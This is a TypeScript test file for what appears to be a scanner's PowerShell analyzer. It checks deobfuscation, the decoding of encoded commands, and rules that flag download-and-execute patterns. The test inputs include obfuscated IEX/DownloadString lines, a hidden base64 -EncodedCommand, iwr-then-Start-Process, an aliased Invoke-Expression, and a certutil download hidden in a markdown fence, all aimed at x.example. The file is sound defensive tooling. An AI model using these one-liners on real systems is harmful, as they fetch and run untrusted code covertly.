import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { normalizePowershell, statements } from '../analyzers/powershell/index.js';
import { scanFiles } from '../index.js';

const ids = (path: string, text: string) =>
  scanFiles([{ path, bytes: Buffer.from(text) }]).findings.map((f) => f.ruleId);

describe('powershell analyzer', () => {
  it('undoes backtick, caret, concatenation and empty-quote spellings', () => {
    assert.equal(
      normalizePowershell("I`E`X (N`ew-Object Net.WebClient).('Down'+'loadString')"),
      "IEX (New-Object Net.WebClient).('DownloadString')",
    );
    assert.equal(normalizePowershell('p^o^w^e^r^s^h^e^l^l -c x'), 'powershell -c x');
    assert.equal(normalizePowershell('pow""ershell'), 'powershell');
  });

  it('splits statements on ; outside quotes and joins continued lines', () => {
    const st = statements('$a = "x; y"; iex $a\r\nGet-Item `\n  foo\n# iex comment\n');
    assert.deepEqual(
      st.map((s) => [s.text, s.line]),
      [
        ['$a = "x; y"', 1],
        ['iex $a', 1],
        ['Get-Item    foo', 2],
      ],
    );
  });

  it('decodes -EncodedCommand (UTF-16LE) and scans the payload', () => {
    const enc = Buffer.from("iex (iwr 'https://x.example/p')", 'utf16le').toString('base64');
    const r = scanFiles([
      { path: 'run.bat', bytes: Buffer.from(`powershell -w hidden -enc ${enc}\n`) },
    ]);
    const decoded = r.findings.find((f) => f.ruleId === 'ps-download-exec');
    assert.equal(decoded?.decodedFrom, 'base64');
    assert.ok(r.findings.some((f) => f.ruleId === 'ps-encoded-command'));
  });

  it('follows a downloaded file to the program started, not to its arguments', () => {
    assert.ok(
      ids(
        'a.ps1',
        'iwr https://x.example/t.exe -OutFile $env:TEMP\\t.exe\nStart-Process $env:TEMP\\t.exe\n',
      ).includes('ps-download-exec'),
    );
    assert.ok(
      !ids(
        'b.ps1',
        '$r = irm https://api.example.com/v1/job\nStart-Process code -ArgumentList $r.path\n',
      ).includes('ps-download-exec'),
    );
  });

  it('resolves aliases of Invoke-Expression', () => {
    assert.ok(
      ids('c.ps1', 'sal go Invoke-Expression\ngo (irm https://x.example/s)\n').includes(
        'ps-download-exec',
      ),
    );
    assert.ok(!ids('d.ps1', 'sal ll Get-ChildItem\nll (irm https://x.example/s)\n').length);
  });

  it('analyzes PowerShell that a shell-labelled fence runs', () => {
    const md =
      '# Setup\n\n```bash\npowershell.exe -c "certutil -urlcache -f https://x.example/a.exe a.exe"\n```\n';
    assert.ok(ids('SKILL.md', md).includes('ps-lolbin-download'));
  });
});
